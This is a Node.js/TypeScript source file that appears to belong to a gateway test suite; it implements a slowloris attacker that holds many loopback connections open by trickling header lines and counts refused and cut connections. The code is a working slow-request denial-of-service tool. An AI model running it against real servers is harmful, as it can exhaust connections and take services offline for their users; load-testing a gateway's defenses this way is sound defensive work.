import net from 'node:net';

/**
 * The slowloris attacker of the slowloris scenario, in a process of its own so that its sockets
 * take no time from the client it measures: `<url> <sockets> <addresses> <max seconds>`. It keeps
 * `sockets` connections to the gateway, each sending a request line and then one header line a
 * second, never finishing its headers; a connection the gateway closes is opened again a second
 * later. The sockets are spread over `addresses` loopback addresses (1: all from 127.0.0.2; more:
 * 127.0.1.1, 127.0.1.2, …), none of them 127.0.0.1, the measuring client's. It exits by itself
 * after `max seconds`. Prints {url} once every socket is opening; on SIGUSR2 one JSON line of counts:
 * connections opened, closed without an answer (refused), and closed with one (a 408 or 503: cut).
 */
const [url, socketsArg, addressesArg, maxSecondsArg] = process.argv.slice(2);
const { hostname, port } = new URL(url);
const sockets = Number(socketsArg);
const addresses = Number(addressesArg);
const counts = { opened: 0, refused: 0, cut: 0 };
const live = new Set<net.Socket>();

const localAddress = (i: number) => (addresses === 1 ? '127.0.0.2' : `127.0.1.${(i % addresses) + 1}`);

function open(i: number): void {
  counts.opened++;
  const socket = net.connect({ host: hostname, port: Number(port), localAddress: localAddress(i) });
  let answer = '';
  socket.on('connect', () => {
    live.add(socket);
    socket.write('GET /health HTTP/1.1\r\nHost: x\r\n');
  });
  socket.on('data', (d) => (answer += d));
  socket.on('error', () => {});
  socket.on('close', () => {
    live.delete(socket);
    if (answer) counts.cut++;
    else counts.refused++;
    setTimeout(() => open(i), 1000);
  });
}

for (let i = 0; i < sockets; i++) open(i);
let line = 0;
setInterval(() => {
  line++;
  for (const socket of live) socket.write(`X-Trickle-${line}: 1\r\n`);
}, 1000);
setTimeout(() => process.exit(0), Number(maxSecondsArg) * 1000);
process.on('SIGUSR2', () => console.log(JSON.stringify(counts)));
process.on('SIGTERM', () => process.exit(0));
console.log(JSON.stringify({ url }));
